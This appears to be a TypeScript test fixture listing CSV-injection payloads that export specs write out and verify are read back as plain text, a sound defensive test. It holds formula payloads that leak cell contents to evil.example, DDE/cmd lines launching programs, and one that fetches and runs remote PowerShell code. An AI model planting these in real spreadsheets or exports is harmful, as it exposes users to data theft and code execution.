/**
 * Cell text that a spreadsheet would run or follow if it were written as is:
 * OWASP's CSV-injection examples and their cousins. The export specs write
 * every one and read it back as plain text, never as a formula or a link.
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=INDIRECT("A1")',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\tcmd',
  '=0x41',
  '==1',
  '=  1+1',
  '+A1',
  '=HYPERLINK("javascript:alert(1)")',
];
